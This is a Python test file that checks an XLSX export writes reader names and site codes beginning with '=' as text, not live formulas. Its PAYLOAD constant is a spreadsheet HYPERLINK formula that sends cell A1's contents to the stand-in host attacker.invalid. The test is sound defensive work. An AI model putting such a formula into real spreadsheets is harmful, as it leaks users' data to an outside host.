"""S14 (issue 15): free text in the XLSX export stays text. A reader name or label code that
starts with '=' used to become a live formula in the researcher's spreadsheet."""

from __future__ import annotations

import openpyxl

from analysis.compare.comparison import compare
from analysis.table.exports import write_xlsx
from analysis.table.longtable import validate_long_table
from analysis.table.simulate import simulate_long_table

LABELS = ["A", "B", "C1", "C2"]
PAYLOAD = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'


def test_text_starting_with_an_equals_sign_is_written_as_text(tmp_path):
    df = simulate_long_table(labels=LABELS, n_cases=30, n_readers=2, seed=5)
    first = sorted(df.loc[df["reader_kind"] == "human", "reader"].unique())[0]
    df["reader"] = df["reader"].replace({first: PAYLOAD})
    df["site"] = "=1+1"
    table = validate_long_table(df, labels=LABELS)
    path = write_xlsx(table, tmp_path / "study.xlsx",
                      comparison=compare(table, labels=LABELS, n_bootstrap=0))
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert PAYLOAD in texts and "=1+1" in texts  # kept as typed, as text
